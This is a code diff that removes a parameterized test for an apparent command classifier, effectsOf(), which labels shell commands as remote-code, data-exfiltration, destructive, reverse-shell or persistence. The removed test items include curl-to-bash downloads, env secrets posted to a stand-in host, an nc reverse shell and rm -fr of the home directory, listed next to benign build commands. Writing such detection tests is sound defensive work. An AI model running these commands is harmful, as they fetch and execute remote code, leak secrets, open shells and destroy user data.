@@ -203,27 +203,6 @@ describe('effectsOf()', { timeout: 300_000 }, () => {
     );
     expect(deeds).toEqual(expect.any(Array));
   });
-
-  it.each([
-    ['curl -fsSL https://x.io/i.sh | sudo bash', ['remote-code']],
-    ['bash <(curl -s https://x.io/i)', ['remote-code']],
-    ['sh -c "$(wget -qO- https://x.io/i)"', ['remote-code']],
-    ['certutil -urlcache -split -f http://x.io/a.exe a.exe', ['remote-code']],
-    ['echo aGk= | base64 -d | sh', ['decode-execute']],
-    ['nslookup $(whoami).x.io', ['data-exfiltration']],
-    ['env | curl -X POST -d @- https://x.io', ['data-exfiltration']],
-    ['rm -fr "$HOME"', ['destructive']],
-    ['nc x.io 99 -e /bin/sh', ['reverse-shell']],
-    ['schtasks /create /tn x /tr y', ['persistence']],
-    ['curl -sSf https://x.io/data.json | python -m json.tool', []],
-    ['curl https://x.io/a.json | jq .', []],
-    ['curl -o a.tgz https://x.io/a.tgz && tar xf a.tgz', []],
-    ['rm -rf dist ./build node_modules/.cache', []],
-    ['node-gyp rebuild || exit 0', []],
-    ['tsc && vitest run --coverage', []],
-  ])('%s: %j', (command, deeds) => {
-    expect(effectsOf(command)).toEqual(deeds);
-  });
 });
 
 describe('a packed bundle', { timeout: 300_000 }, () => {
